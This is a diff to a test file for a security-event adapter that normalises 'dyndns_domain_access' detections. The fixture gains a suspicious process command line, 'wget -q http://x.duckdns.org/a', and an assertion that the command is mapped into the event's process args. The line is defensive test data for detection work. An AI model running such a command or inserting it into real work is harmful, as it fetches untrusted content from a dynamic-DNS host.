@@ -255,13 +255,14 @@ describe("garnet seed shapes", () => {
         note: "dyndns_domain_access_1",
         resolve: "x.duckdns.org",
         resolve_flow: { proto: "UDP", remote: { address: "1.1.1.1", port: 53 } },
-        process: { pid: 20, ppid: 10, comm: "wget", exe: "/usr/bin/wget" },
+        process: { pid: 20, ppid: 10, cmd: "wget -q http://x.duckdns.org/a", exe: "/usr/bin/wget" },
         full_info: { ancestry: [{ pid: 10, ppid: 1, comm: "bash" }, { pid: 20, ppid: 10, comm: "wget" }] },
       },
     };
     const [e] = events(adaptGarnet(item));
     expect(e).toMatchObject({ occurredAt: "2025-05-05T05:05:05.000Z", type: "dyndns_domain_access", severity: "low", domain: "x.duckdns.org" });
     expect(e.flow).toMatchObject({ protocol: "UDP", remote: { address: "1.1.1.1", port: 53 } });
+    expect(e.process).toEqual({ exe: "/usr/bin/wget", args: "wget -q http://x.duckdns.org/a", pid: 20, ppid: 10 });
     expect(e.parent).toEqual({ comm: "bash", pid: 10, ppid: 1 });
     expect(e.ancestors).toEqual([{ comm: "bash", pid: 10, ppid: 1 }]);
   });
